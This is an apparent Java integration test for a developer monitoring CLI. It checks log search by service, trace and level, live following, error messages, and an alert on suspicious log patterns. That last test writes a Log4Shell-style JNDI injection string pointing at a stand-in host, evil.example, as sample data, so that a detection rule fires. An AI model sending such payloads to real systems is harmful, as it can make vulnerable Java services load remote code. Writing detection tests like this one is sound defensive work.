package dev.devmon;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.devmon.codec.Json;
import dev.devmon.codec.Node;
import dev.devmon.stores.LocalHttp;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;

/** Log lines of services in the real Elasticsearch, through its pipeline: found by the command line, counted for alerts. */
@Execution(ExecutionMode.SAME_THREAD)
@Tag("docker")
@Timeout(180)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ServiceLogsIT {
    private static final String TRACE = "4bf92f3577b34da6a3ce929d0e0e4736";

    private final LabStack stack = new LabStack();

    @BeforeAll
    void bringUp() {
        stack.run("up", "elasticsearch", "prometheus", "node-exporter").expecting(0);
        logged(
                "payments",
                "{\"level\":\"INFO\",\"message\":\"paid\",\"traceId\":\"" + TRACE + "\",\"requestId\":\"r-1\"}");
        logged(
                "payments",
                Instant.now()
                        + " ERROR 1 --- [main] o.e.Pay : refused\njava.lang.IllegalStateException: no money\n\tat o.e.Pay.run(Pay.java:7)");
        logged("cart", "level=warn msg=\"cart is old\"");
        await().untilAsserted(() ->
                assertEquals(3, lines("--tail", "10", "--level", "trace").size()));
    }

    @AfterAll
    void takeDown() {
        stack.close();
    }

    /** As Filebeat hands a line on. */
    private void logged(String service, String line) {
        String event = Json.write(
                Map.of("@timestamp", Instant.now().toString(), "message", line, "service", Map.of("name", service)));
        try {
            LocalHttp.Answer answer = LocalHttp.request(
                    "POST",
                    LocalHttp.url(stack.port("elasticsearch", "http"), "/logs-app-development/_doc"),
                    event,
                    Duration.ofSeconds(20));
            assertTrue(answer.ok(), answer::body);
        } catch (IOException e) {
            throw new AssertionError(line, e);
        }
    }

    private List<Node> lines(String... options) {
        String[] words = new String[options.length + 2];
        words[0] = "logs";
        words[1] = "--json";
        System.arraycopy(options, 0, words, 2, options.length);
        return stack.json(words).find("/lines").orElseThrow().children();
    }

    private static List<String> messages(List<Node> lines) {
        return lines.stream().map(line -> LabStack.text(line, "/message")).toList();
    }

    @Test
    void findsLinesByServiceTraceCorrelationAndLevel() {
        assertEquals(List.of("paid", "refused"), messages(lines("--service", "payments")));
        assertEquals(List.of("paid"), messages(lines("--trace", TRACE.toUpperCase(Locale.ROOT))));
        assertEquals(List.of("paid"), messages(lines("--correlation", "r-1")));
        assertEquals(List.of("refused", "cart is old"), messages(lines("--level", "WARN")));
        assertEquals(List.of("refused"), messages(lines("--service", "payments", "--level", "error", "--since", "5m")));
        assertEquals(List.of(), messages(lines("--service", "nobody")));
    }

    @Test
    void printsLinesForPeople() {
        String out = stack.run("logs", "--service", "payments").expecting(0).out();

        assertTrue(out.contains(" INFO  payments: paid  trace=" + TRACE + "  correlation=r-1\n"), out);
        assertTrue(
                out.contains(" ERROR payments o.e.Pay: refused\n    java.lang.IllegalStateException: no money\n"), out);
    }

    @Test
    void followsWhatComesIn() {
        DevmonProcess follow = stack.start("logs", "--service", "follow", "-f");
        for (int i = 0; i < 3; i++) {
            String line = "line " + i;
            logged("follow", line);
            await(line).atMost(Duration.ofSeconds(15)).until(() -> follow.out().contains("follow: " + line + "\n"));
        }
        follow.signal("INT");
        assertEquals(3, follow.result().out().lines().count(), "each once");
    }

    @Test
    void refusesWhatItCannotLookFor() {
        String level = stack.run("logs", "--level", "loud").expecting(2).err();
        assertTrue(
                level.contains("\"loud\" is not a level; use one of: trace, debug, info, warn, error, fatal"), level);
        String both = stack.run("logs", "prometheus", "--service", "cart")
                .expecting(2)
                .err();
        assertTrue(both.contains("two kinds of logs cannot be shown together"), both);
        String none = stack.run("trace").expecting(6).err();
        assertTrue(none.contains("jaeger is not running"), none);
    }

    @Test
    void firesAnAlertOnALineThatLooksLikeAnAttack() {
        for (int i = 0; i < 4; i++) {
            logged("shop", "GET /?q=${jndi:ldap://evil.example/a} 404");
        }

        await("the counter")
                .atMost(Duration.ofSeconds(60))
                .untilAsserted(
                        () -> assertEquals(
                                1,
                                vector(
                                        "devmon_log_pattern_matches_total{service=\"shop\", pattern=\"jndi\", env=\"development\"} == 4")));
        await("the alert")
                .atMost(Duration.ofSeconds(60))
                .untilAsserted(() -> assertEquals(
                        1,
                        vector("ALERTS{alertname=\"SuspiciousLogPattern\", service=\"shop\", alertstate=\"firing\"}")));
    }

    private int vector(String expression) {
        try {
            return Json.read(LocalHttp.request(
                                    "GET",
                                    LocalHttp.url(
                                            stack.port("prometheus", "http"),
                                            "/api/v1/query?query="
                                                    + URLEncoder.encode(expression, StandardCharsets.UTF_8)),
                                    Duration.ofSeconds(10))
                            .body())
                    .flatMap(answer -> answer.find("/data/result"))
                    .orElseThrow()
                    .children()
                    .size();
        } catch (IOException e) {
            throw new AssertionError(expression, e);
        }
    }
}
